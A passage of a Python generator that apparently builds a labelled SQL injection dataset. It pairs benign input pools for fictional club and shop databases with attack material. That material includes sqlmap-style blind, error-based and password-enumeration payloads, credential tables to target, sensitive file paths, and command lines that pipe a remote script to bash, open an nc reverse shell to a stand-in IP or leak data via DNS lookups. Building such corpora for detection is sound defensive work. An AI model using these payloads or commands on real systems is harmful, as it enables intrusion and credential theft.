 ("t21_gleam_mat_bookings", "SELECT booking_id, mat_no, starts_at FROM mat_bookings WHERE club_id = {a} AND starts_at > now() ORDER BY starts_at LIMIT {b}",
  {"a": S("n", ["5", "61"]), "b": S("n", ["10", "30"])}),
 ("t21_gleam_promotion_insert", "INSERT INTO belt_promotions (judoka_id, from_belt, to_belt, examiner, held_on) VALUES ({a}, '{b}', '{c}', '{d}', '{e}')",
  {"a": S("n", ["331", "94"]), "b": S("q", ["orange", "1st kyu"]), "c": S("q", ["green", "1st dan"]), "d": S("q", ["Sensei Adams", "panel B"]),
   "e": S("q", ["2025-12-06", "2026-03-14"], "date")}),
 ("t21_ada_weight_category", "SELECT judoka_id, name FROM judoka WHERE weight_kg BETWEEN {a} AND {b} AND sex = '{c}'",
  {"a": S("n", ["66", "52"]), "b": S("n", ["73", "57"]), "c": S("q", ["M", "F"])}),
 ("t21_ada_randori_counts", "SELECT partner_id, count(*) FROM randori_log WHERE judoka_id = {a} GROUP BY partner_id HAVING count(*) >= {b}",
  {"a": S("n", ["331", "94"]), "b": S("n", ["3", "10"])}),
 ("t21_ada_medical_update", "UPDATE judoka SET medical_note = '{a}', cleared = false WHERE judoka_id = {b}",
  {"a": S("q", ["shoulder strapped", "concussion protocol"]), "b": S("n", ["331", "94"])}),
 # viking reenactment society -- F# sprintf into NpgsqlCommand and Pharo P3Client query: ('...', v)
 ("t21_fsharp_kit_checks", "SELECT member_id, kit_item, passed FROM kit_checks WHERE member_id = {a} AND season = {b}",
  {"a": S("n", ["208", "17"]), "b": S("n", ["2025", "2024"])}),
 ("t21_fsharp_event_search", "SELECT event_id, site, starts_on FROM saga_events WHERE site ILIKE '%{a}%' ORDER BY starts_on DESC",
  {"a": S("q", ["Lindisfarne", "Jorvik"])}),
 ("t21_fsharp_shield_insert", "INSERT INTO shield_register (member_id, boss_type, diameter_cm, painted_design) VALUES ({a}, '{b}', {c}, '{d}')",
  {"a": S("n", ["208", "17"]), "b": S("q", ["domed iron", "flat"]), "c": S("n", ["80", "86"]), "d": S("q", ["raven on red", "plain ochre"])}),
 ("t21_pharo_hall_booking", "SELECT booking_id, hall, guests FROM longhall_bookings WHERE booking_ref = '{a}' AND guests <= {b}",
  {"a": S("q", ["LH-2025-031", "FEAST-7"]), "b": S("n", ["60", "120"])}),
 ("t21_pharo_table_preview", "SELECT * FROM \"{a}\" ORDER BY 1 LIMIT 50",
  {"a": S("qi", ["kit_checks", "saga_events"])}),
 ("t21_pharo_feast_menu", "SELECT dish, allergens FROM feast_menu WHERE event_id = {a} AND dish ~* '{b}'",
  {"a": S("n", ["71", "9"]), "b": S("q", ["pottage", "mead"])}),
 # trophy engravers -- PL/Python plpy.execute("..." + v) and PL/Perl spi_exec_query("... $v ...") inside the shop's own functions
 ("t21_plpy_order_lookup", "SELECT order_id, trophy_type, engraving_text FROM engraving_orders WHERE order_ref = '{a}'",
  {"a": S("q", ["ENG-40217", "CUP-0031"])}),
 ("t21_plpy_font_choice", "UPDATE engraving_orders SET font = '{a}', line_count = {b} WHERE order_id = {c} RETURNING order_id, font",
  {"a": S("q", ["Roman caps", "script"]), "b": S("n", ["3", "5"]), "c": S("n", ["40217", "31"])}),
 ("t21_plpy_plate_text", "INSERT INTO plate_texts (order_id, line_no, body) VALUES ({a}, {b}, $t21${c}$t21$)",
  {"a": S("n", ["40217", "31"]), "b": S("n", ["1", "3"]), "c": S("d", ["Club Champion 2025", "Most Improved Player"])}),
 ("t21_plperl_club_orders", "SELECT order_id, club_name, due_on FROM engraving_orders WHERE club_name = '{a}' AND due_on <= '{b}'::date ORDER BY due_on",
  {"a": S("q", ["Ashby Bowls Club", "St Ives RFC"]), "b": S("q", ["2025-06-30", "2026-05-01"], "date")}),
 ("t21_plperl_cup_search", "SELECT cup_id, name, height_cm FROM trophy_stock WHERE name ILIKE '%{a}%' AND height_cm <= {b} LIMIT 30",
  {"a": S("q", ["silver plate", "glass star"]), "b": S("n", ["35", "50"])}),
 ("t21_plperl_rush_jobs", "WITH rush AS (SELECT order_id, due_on FROM engraving_orders WHERE due_on < current_date + {a} AND status = 'open') SELECT order_id FROM rush ORDER BY due_on",
  {"a": S("n", ["3", "7"])}),
 # BMX track -- MATLAB Database Toolbox fetch(conn, ['...' v]) and SAS PROC SQL pass-through with &macro variables
 ("t21_matlab_lap_times", "SELECT rider_id, gate_ms, lap_ms FROM bmx_laps WHERE moto_id = {a} AND lap_ms < {b} ORDER BY lap_ms",
  {"a": S("n", ["9031", "64"]), "b": S("n", ["42000", "38500"])}),
 ("t21_matlab_rider_plate", "SELECT rider_id, name, plate_no FROM bmx_riders WHERE plate_no = '{a}'",
  {"a": S("q", ["BX-114", "77"])}),
 ("t21_sas_moto_results", "SELECT moto_id, rider_id, finish_pos FROM moto_results WHERE race_day = '{a}' AND class = '{b}'",
  {"a": S("q", ["2025-05-18", "2026-07-05"], "date"), "b": S("q", ["Cruiser 30+", "Girls 13-14"])}),
 ("t21_sas_track_headline", "SELECT ts_headline('english', body, to_tsquery($t21${a}$t21$)) FROM track_notes WHERE section = {b}",
  {"a": S("d", ["berm & rhythm", "start hill"]), "b": S("n", ["2", "5"])}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t21_cobol_crew_pager", "t21_gas_performer_search", "t21_gleam_judoka_licence", "t21_plperl_club_orders"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t21_pgtcl_restoration_note": ["budget_pence", "approved_by"], "t21_zig_gear_return": ["deposit_refunded", "paddler_id"],
             "t21_epgsql_line_status": ["max_weight_kg", "inspected_by"], "t21_epgsql_staff_reset": ["is_supervisor", "password"],
             "t21_cobol_fuel_update": ["ON_SERVICE", "COXSWAIN_ID"], "t21_racket_tag_update": ["specimen_id", "public"],
             "t21_windmill_cert_note": ["valuation_gbp", "issued_to"], "t21_dpq2_vest_status": ["owner_id", "credits"],
             "t21_ada_medical_update": ["belt", "is_coach"], "t21_plpy_font_choice": ["price_pence", "paid"]}
TAG = "$t21$"
CLOSER = closers(TAG)


segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Keefe", "two words", "2032-03-31", "20%", "isn't"], "e": ["v", "", "it's", "C:\\trams\\lot", "tab\there", "a\nb"],
         "d": ["v", "", "it's", "\"q\""], "qi": ["v", "She said \"halt\"", "with space"], "n": ["8", "0", "-4", "3.25", "1500000", "0.75"],
         "list": ["8", "8, 9", "10,11,12", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))

CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "TABLE", "DO", "RANGE", "GROUPS", "PARTITION", "IS", "EXECUTE", "MATCHED", "CHECK")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "REVOKE", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE", "DECLARE", "FETCH", "MOVE", "CLOSE", "REFRESH", "CLUSTER", "REINDEX", "RESET")


def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    return corpus_kit.slot_info(globals(), tpl, slot)


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Aoife O'Hanlon", "Conductor's Cab", "D'Oyly Carte Pens", "O'Connell Street stop", "Seán Mac Giolla Phádraig", "Guide's Lantern",
   "L'Aquila Gems", "Giulia D'Angelo", "Ng'endo Kamau", "Rosa Dell'Orto", "Ye Olde Trip's Cellar", "Coxswain's Locker", "Tree o' Heaven",
   "Pen-y-Fan's shoulder", "Lord's Walk Arboretum", "Ó Briain Engraving", "Mu'awiya", "Ka'ahumanu", "Jeanne-d'Arc Judo", "Fisherman's Friend",
   "Odin's Ravens", "Shieldmaiden's Hall", "Dick's Sporting", "Rock 'n' Roll Busker", "Rider's Gate", "Ol' Sparky Vest"],
 "input_plain": ["trolley pole", "bogie", "controller", "livery", "clerestory", "nib", "feed", "converter", "piston filler", "sac", "kayak", "skeg", "spray deck",
   "paddle float", "tide race", "harness", "trolley", "brake block", "zip line", "pager", "drysuit", "helmet", "launch", "coxswain", "acer", "sorbus",
   "girth", "accession", "transition", "wetsuit", "brick session", "cadence", "cabochon", "facet", "girdle", "tumble", "pitch", "permit", "amplifier",
   "juggling", "lantern", "cellar", "sighting", "vest", "sensor", "fog", "tatami", "randori", "ippon", "uchi mata", "shield boss", "longhall", "mead",
   "engraving", "plinth", "font", "gate", "berm", "rhythm section", "moto"],
 "input_sql_words": ["Select Nibs & Co", "Union Terrace Trams", "Order of the Raven", "Table Top Gems", "Insert Coin Laser Arena", "Update Paddlesports",
   "Delete Key Buskers", "Group Five Judo", "Where Eagles Dare Zip", "Having Fun Tri Club", "Drop Zone Kayaks", "Like Minds Ghost Walks", "Limit Break BMX",
   "Join the Crew Lifeboats", "Grant Road Arboretum", "Begin Here Tours", "Commit to Tri", "Rollback Trams Ltd", "Cast Iron Engravers", "Null Island Kayak",
   "Exists Lane Pens", "Case Study Gems", "drop a line to the crew", "select the best nib -- then ink", "Truncate Tree Surgery", "Index Card Busking",
   "Alter Ego Laser Tag", "From Dusk Ghost Tours", "Values Engraving"],
 "input_url_email": ["https://tram-museum.example/fleet/167?view=full", "bookings@tram-museum.example", "https://penclinic.example/ticket/FP-2291",
   "repairs+nibs@penclinic.example", "https://seakayak.example/trips?site=porthgain&date=2025-07-12", "guides@seakayak.example",
   "https://zipworld.example/waiver/ZP-55120", "coxswain@lifeboat-station.example", "https://arboretum.example/specimens/1987.0412#map",
   "secretary@tri-club.example", "https://gems.example/lots/LOT-7731?ref=mail", "permits@busking.example", "https://ghost-walks.example/tours/york/",
   "arena@lasertag.example", "https://judo.example/members/BJA-331207", "jarl@viking-society.example", "orders@engravers.example",
   "ftp://bmx-track.example/timing/2025-05-18.csv", "mailto:results@bmx-club.example"],
 "input_json_text": ["{\"passed\": true}", "{\"kind\": \"fog_machine\", \"zone\": 3}", "{\"nib\": \"EF\", \"flex\": null}", "[16, 18, 20]",
   "{\"note\": \"O'Hanlon's \\\"spare\\\" pen\"}", "{}", "[]", "{\"swim_s\": 1712, \"run_s\": 2405}", "{\"a\": [1, {\"b\": true}]}", "{\"belt\": \"1st dan\"}",
   "{\"tide\": {\"hw\": \"09:42\", \"range_m\": 5.1}}", "[{\"line\": 1, \"text\": \"Champion\"}]", "{\"emoji\": \"\\ud83d\\udc7b\"}"],
 "input_unicode": ["Porthgain", "Ærøskøbing", "Łódź", "Gießen", "Plzeň", "Reykjavík", "Arisaig — Rhum", "Ōsaka", "Kōdōkan", "القاهرة",
   "طرابلس", "ירושלים", "Ηράκλειο", "Екатеринбург", "柔道", "钢笔", "ผีเสื้อ", "मोमबत्ती", "மரம்", "Māori", "ʻIolani", "Å tram",
   "e\u0301 combining", "👻 boo", "🚋 tram", "🛶 kayak", "🏆 cup", "🥋 judo", "Z\u200dWJ", "\u202eRLO name", "\u200fright mark", "ﬂ ligature",
   "ʹprimeʹ", "‶ reversed", "ꞌsaltilloꞌ", "＂fullwidth quote＂"],
 "input_whitespace": ["  two leading", "trailing   ", "inner  gap", "tab\tthen", "line\nbreak", "\tstart tab", "   ", "x \t y", "cr\r\nlf", "no\u00a0break",
   "      ", "hair\u200aspace", "end\n", "\u2003em space"],
 "input_numeric_string": ["07", "000", "3e4", "1.41421", "-12", "+8", "7,250", "0.50", "0x1F", "1_000", "000231", "-2147483648", "-0", "6.02e23", "٥٦"],
 "input_punctuation": ["?!", "…", "c:\\pens\\x", "50%", "#167", "C#", "(n/a)", "[tbc]", "{empty}", "a--b", "7*6", "@arena", "../", "6'2\"", "semi;colon", "-- hey",
   "/**/", "||", ";-(", "&lt;", "!=", "'single'", "`tick`", "$2", "$t$", "€ 9.90", "¡olé!"],
 "input_formatted": ["TRAM-1937-167", "51°48′58″N 4°19′40″W", "+44 1348 000 000", "2025-W33", "BS EN 15567-1", "ENG/40217/25", "SKU-NIB-EF-14K",
   "v2.1.0-rc.3", "00:38:41.207", "5.1 m ± 0.2", "SA62 5BN", "#8B0000", "80 cm Ø", "Kyu 6–1"],
}
SENTS = ["Car 167 failed the brake test on the depot road; swap the magnetic track brake before the weekend service.", "Nib re-tipped and smoothed, feed flushed -- the converter still weeps at the seal.",
         "Swell 2 m from the west after noon; keep the group inside the bay and skip the tide race.", "Line 4 closed at 14:10 for gusts over 35 mph, riders moved to line 2.",
         "Pager test at 19:00 Sunday; the D-class fuel was topped up and the drysuits hung to dry.", "Honey fungus confirmed near bed 12; fence it off and do not move the mulch.",
         "Swim leg shortened to 750 m because of water temperature; wave starts every four minutes.", "Stone shows a feather inclusion under the table -- advise re-cutting as a cabochon.",
         "Pitch 17 complaint: amplifier used after 21:00, second warning issued, permit under review.", "Guest fainted at the cellar stop; first aid given, tour finished early.",
         "Vest 23 reports hits on the shoulder sensor when nobody fires; replace the sensor board.", "Randori limited to tachi-waza tonight; mats 3 and 4 are being re-taped.",
         "Shield boss loose on two rims; kit check failed until rivets are replaced before the show.", "Line 2 of the plate reads 'Club Champion' -- customer wants the year in italics.",
         "Gate drop timing off by 40 ms on lane 3; recalibrate before the regional round.", "select the walk times -- drop the cancelled ones; update the rota after lunch."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2016, 2028), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2021, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":00", ":30", "+01", "+05:30", "Z", ".250"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 90), r.choice(["minutes", "hours", "days", "weeks"])), "%d hour" % r.randint(1, 6),
                         "PT%dM" % r.randint(5, 120), "%02d:%02d:00" % (r.randint(0, 5), r.randint(0, 59)), "%d days %d hours" % (r.randint(1, 6), r.randint(1, 23))]), "input_formatted"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["nibs", "A.Hollis", "marshal", "swim.bike", "t1fast", "flat12", "cafe.owner", "k.oyelaran"]), r.choice(["", "+tri", ".21"]),
                            r.choice(["example.org", "Example.NET", "club.example"])), "input_url_email"
    if knd == "token":
        return "".join(r.choice("0123456789abcdef") for _ in range(r.choice([12, 16, 24, 32]))), "input_formatted"
    if knd == "json":
        return r.choice(["{\"passed\": %s}" % r.choice(["true", "false"]), "{\"inspector\": \"%s\"}" % r.choice(["KO", "BT", "JM"]),
                         "{\"kind\": \"%s\"}" % r.choice(["fog_machine", "vest_fault", "power_up"]), "{\"zone\": %d}" % r.randint(1, 9), "{\"tags\": [\"night\", \"kids\"]}",
                         "{\"note\": \"it's fine\"}", "{}"]), "input_json_text"
    if knd == "jkey":
        return r.choice(["saddle_height_mm", "stack", "reach", "crank_mm", "cleat_angle", "bar_drop"]), "input_plain"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("tram_volunteers", "login", "pin_hash", "conductor_jo"), ("pen_customers", "email", "card_token", "nibs@example.org"),
        ("paddlers", "email", "password", "guide.ros"), ("zip_staff", "username", "password", "marshal_kay"), ("LB_CREW", "CREW_NAME", "PAGER_PIN", "D MEW"),
        ("arboretum_users", "username", "passwd", "curator"), ("tri_members", "email", "password_hash", "t1fast@example.com"),
        ("lapidary_accounts", "login", "api_key", "rhian"), ("permit_officers", "username", "password", "officer7"), ("ghost_guides", "login", "passcode", "grey_lady"),
        ("laser_players", "callsign", "pin", "Ghost"), ("judoka", "licence_no", "portal_password", "BJA-331207"), ("society_members", "email", "password", "jarl@viking-society.example"),
        ("engraving_staff", "user_name", "pw_sha256", "bench2"), ("bmx_officials", "login", "secret", "timing")]
HOSTS = ["x21.oast.example", "k21.dnslog.example", "t21.collab-hook.example", "e.leak-21.example.net", "p.interactsh.example"]
IPS = ["203.0.113.21", "198.51.100.121", "192.0.2.211", "198.51.100.21"]
FILES = ["/etc/passwd", "/etc/group", "/etc/hosts", "/proc/self/environ", "/proc/version", "/proc/self/maps", "pg_hba.conf", "postgresql.auto.conf",
         "global/pg_control", "/var/lib/postgresql/.psql_history", "/home/postgres/.ssh/id_rsa", "/etc/machine-id", "log/postgresql.log",
         "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../../etc/passwd"]
CMDS = ["id", "uname -r", "cat /etc/os-release", "env", "ls -la /", "curl -s http://x21.oast.example/i.sh | bash", "nc 203.0.113.21 9001 -e /bin/sh",
        "nslookup $(whoami).k21.dnslog.example", "ps -ef", "hostname", "python3 -c 'import os; os.system(\"id\")'"]
ROLES = ["postgres", "pg_read_server_files", "pg_write_server_files", "pg_execute_server_program", "pg_signal_backend", "pg_database_owner",
         "pg_read_all_settings", "azure_pg_admin", "rdsadmin", "museum_owner"]
SECRET_EXPRS = ["(SELECT string_agg(rolname || ':' || coalesce(rolpassword, ''), ';') FROM pg_authid)", "(SELECT string_agg(name || '=' || setting, ';') FROM pg_settings WHERE name LIKE 'ssl%')",
                "(SELECT string_agg(usename || '/' || application_name, ',') FROM pg_stat_activity)", "current_setting('data_directory')",
                "current_setting('log_directory')", "(SELECT string_agg(name || ' ' || default_version, ',') FROM pg_available_extensions)",
                "(SELECT secret FROM bmx_officials WHERE login = 'timing')", "(SELECT string_agg(umuser::regrole::text || ' ' || array_to_string(umoptions, ','), ';') FROM pg_user_mapping)",
                "(SELECT string_agg(type || ' ' || address, ';') FROM pg_hba_file_rules)", "(SELECT string_agg(sourcefile || ':' || name, ',') FROM pg_file_settings)",
                "inet_client_addr()::text", "pg_read_file('postgresql.auto.conf')"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_setting('server_version')", "current_setting('listen_addresses')",
                     "current_setting('data_directory')", "pg_conf_load_time()::text", "inet_server_addr()::text", "current_schemas(false)::text", "user",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY 1 LIMIT 1 OFFSET %d)" % (p, t, r.randint(0, 9)),
                     "(SELECT string_agg(%s, '|') FROM %s)" % (p, t), "(SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    return r.choice([
        ("octet_length_gt", "octet_length(%s) > %d" % (x, pos)), ("sha256_prefix", "left(encode(sha256(convert_to(%s, 'UTF8')), 'hex'), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("substring_eq", "substring(%s from %d for 1) = '%s'" % (x, pos, ch)), ("ascii_substring_lt", "ascii(substring(%s, %d, 1)) < %d" % (x, pos, r.randint(48, 122))),
        ("ilike_prefix", "%s ILIKE '%s%%'" % (x, ch)), ("regex_ci_prefix", "%s ~* '^%s'" % (x, ch)), ("strpos_gt", "strpos(%s, '%s') > 0" % (x, ch)),
        ("right_eq", "right(%s, 1) = '%s'" % (x, ch)), ("char_length_between", "char_length(%s) BETWEEN %d AND %d" % (x, pos, pos + 8)),
        ("to_hex_ascii", "to_hex(ascii(substr(%s, %d, 1))) = '%x'" % (x, pos, r.randint(48, 122))), ("md5_suffix", "right(md5(%s), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("overlay_eq", "overlay(%s placing '' from 1 for %d) <> ''" % (x, pos)), ("position_gt", "position('%s' in %s) > %d" % (ch, x, pos % 5)),
        ("initcap_like", "initcap(%s) LIKE '%s%%'" % (x, ch.upper()))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: its test catalogue for PostgreSQL and the other DBMSes, boundaries, tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters, q."""
    return "q%sq" % "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3))


DUMP = {"tram_volunteers": ["login", "pin_hash", "phone"], "pen_customers": ["email", "card_token"], "paddlers": ["email", "password", "bc_award"],
        "zip_staff": ["username", "password", "reset_token"], "arboretum_users": ["username", "passwd"], "tri_members": ["email", "password_hash"],
        "lapidary_accounts": ["login", "api_key"], "permit_officers": ["username", "password"], "ghost_guides": ["login", "passcode"],
        "laser_players": ["callsign", "pin"], "society_members": ["email", "password"], "engraving_staff": ["user_name", "pw_sha256"],
        "bmx_officials": ["login", "secret"]}
GUESS_TABLES = ["users", "user", "admins", "administrator", "accounts", "members", "logins", "passwd", "credentials", "tbl_admin", "config", "jos_users"]
GUESS_COLUMNS = ["password", "passwd", "pass", "pwd", "hash", "secret", "token", "api_key", "salt", "email"]


class Enc:
    """How a request spells its strings: the delimiters quoted (as most of dev's requests have them) or by CHR();
    casts as COALESCE(CAST(x AS VARCHAR(10000))::text,(CHR(32))), bare under --no-cast."""

    def __init__(self, r):
        self.quoted = r.random() < 0.7
        self.nocast = r.random() < 0.06

    def s(self, v):
        return q(v) if self.quoted else chrs(v)

    def cast(self, col):
        return col if self.nocast else "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % col


def enumeration(r, o):
    """A scalar query of sqlmap's PostgreSQL enumeration (fingerprint, users, passwords, privileges, roles, schemas, tables, columns, counts, dumps)."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(17)
    if k < 5:
        e, _ = corpus_kit.SQLMAP_FINGERPRINT[k]
        return "(SELECT %s)" % o.cast(e) if k < 4 else e
    if k == 5:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 6)
    if k == 6:
        return "(SELECT %s FROM pg_shadow OFFSET %d LIMIT 1)" % (o.cast("passwd"), n % 3)
    if k == 7:
        return "(SELECT COUNT(usename)::text FROM pg_user)"
    if k == 8:
        return "(SELECT (CASE WHEN usesuper THEN 1 ELSE 0 END)::text FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(r.choice(["postgres", "museum_owner"]))
    if k == 9:
        return "(SELECT %s FROM pg_roles OFFSET %d LIMIT 1)" % (o.cast("rolname"), n % 12)
    if k == 10:
        return "(SELECT %s FROM pg_namespace WHERE nspname NOT LIKE %s OFFSET %d LIMIT 1)" % (o.cast("nspname"), o.s("pg_%"), n % 4)
    if k == 11:
        return "(SELECT %s FROM pg_database OFFSET %d LIMIT 1)" % (o.cast("datname"), n % 5)
    if k == 12:
        return "(SELECT %s FROM pg_tables WHERE schemaname=%s OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s("public"), n % 20)
    if k == 13:
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_namespace d ON a.relnamespace=d.oid "
                "WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (o.cast("attname"), o.s(tbl), o.s("public"), n % len(cols)))
    if k == 14:
        return "(SELECT COUNT(*)::text FROM public.%s)" % tbl
    c = r.choice(cols)
    return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n)


def pg_inference(r, o):
    """The condition of one PostgreSQL vector request: dev's simple ones (length of the database name, the table
    count) as often as a bisection step on one character of an enumeration query."""
    x = r.random()
    if x < 0.16:
        return "LENGTH(current_database())>%d" % r.randint(1, 12)
    if x < 0.3:
        return "(SELECT COUNT(*) FROM pg_tables)>%d" % r.randint(40, 110)
    if x < 0.34:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES))
    if x < 0.37:
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(GUESS_COLUMNS), r.choice(sorted(DUMP)))
    e = enumeration(r, o)
    if x < 0.88:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 46])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 30), r.choice(bisection(v)))
    return "LENGTH((%s)::text)>%d" % (e, r.randint(1, 40))


MYSQL_EXPRS = ["DATABASE()", "CURRENT_USER()", "VERSION()", "@@HOSTNAME", "USER()", "@@DATADIR", "SCHEMA()"]
ORACLE_EXPRS = [("USER", "DUAL"), ("SYS.DATABASE_NAME", "DUAL"), ("SYS_CONTEXT('USERENV','HOST')", "DUAL"), ("banner", "v$version WHERE ROWNUM=1")]
MSSQL_EXPRS = ["DB_NAME()", "SYSTEM_USER", "@@VERSION", "HOST_NAME()", "@@SERVERNAME", "USER_NAME()"]


def dialect_inference(r, dbms, o):
    """A vector request's condition in the DBMS's own spelling (dev mixes these with PostgreSQL's)."""
    pos, v = r.randint(1, 20), r.choice(bisection(r.randint(48, 122)))
    if dbms == "MySQL" and r.random() < 0.6:
        if r.random() < 0.75:
            return "ORD(MID((SELECT IFNULL(CAST(%s AS NCHAR),0x20)),%d,1))>%d" % (r.choice(MYSQL_EXPRS), pos, v)
        return "ORD(MID((SELECT IFNULL(CAST(%s AS NCHAR),0x20) FROM %s LIMIT %d,1),%d,1))>%d" % (
            r.choice(["authentication_string", "User", "table_name"]), r.choice(["mysql.user", "INFORMATION_SCHEMA.TABLES"]), r.randint(0, 9), pos, v)
    if dbms == "Oracle" and r.random() < 0.6:
        e, frm = r.choice(ORACLE_EXPRS)
        return "ASCII(SUBSTRC((SELECT NVL(CAST(%s AS VARCHAR(4000)),CHR(32)) FROM %s),%d,1))>%d" % (e, frm, pos, v)
    if dbms == "Microsoft SQL Server" and r.random() < 0.6:
        return "UNICODE(SUBSTRING((SELECT ISNULL(CAST(%s AS NVARCHAR(4000)),CHAR(32))),%d,1))>%d" % (r.choice(MSSQL_EXPRS), pos, v)
    return pg_inference(r, o)


def dialect_query(r, dbms, o, vector):
    """What an error-based or inline request reads: a CASE for detection, a value in the DBMS's spelling for a vector."""
    R = randnum(r)
    if dbms == "MySQL":
        return "(SELECT MID((IFNULL(CAST(%s AS NCHAR),0x20)),1,54))" % r.choice(MYSQL_EXPRS) if vector else "(SELECT (ELT(%d=%d,1)))" % (R, R)
    if dbms == "Oracle":
        e, frm = r.choice(ORACLE_EXPRS)
        return "(SELECT NVL(CAST(%s AS VARCHAR(4000)),CHR(32)) FROM %s)" % (e, frm) if vector else "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)" % (R, R)
    if dbms == "Microsoft SQL Server":
        return "(SELECT ISNULL(CAST(%s AS NVARCHAR(4000)),CHAR(32)))" % r.choice(MSSQL_EXPRS) if vector else "(SELECT (CASE WHEN (%d=%d) THEN %s ELSE %s END))" % (R, R, q("1"), q("0"))
    return enumeration(r, o) if vector else r.choice(["(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R, R), "(SELECT CASE WHEN (%d=%d) THEN %s ELSE %s END)" % (R, R, q("1"), q("0"))])


def hx(s):
    return "0x" + s.encode().hex()


HASH = "\x01"       # marks a MySQL test whose comment is '#'
# the share of each sqlmap family's requests that come from a test for another DBMS (dev.jsonl's shares)
NONPG_SHARE = {"sqlmap_boolean_blind": 0.29, "sqlmap_time_blind": 0.66, "sqlmap_error_based": 0.7, "sqlmap_stacked_queries": 0.58, "sqlmap_inline_query": 0.35}
B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"


def pg_tests(r, vector, o, R, R1, R2, SLEEP, INF, QRY, D1, D2):
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    SUBQ = "(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R, R1, R2)
    GS = "GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END)" % (R, R, INF)
    ERR = "CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, QRY, D2)
    ERRGS = ERR if vector else "CAST(%s||(SELECT 1 FROM %s LIMIT 1)::text||%s AS NUMERIC)" % (D1, GS, D2)
    DUAL = "%d*(SELECT %d FROM DUAL UNION SELECT %d FROM DUAL)" % (R, R, R1)
    return [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1, "AND %d=%s" % (R, SUBQ), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
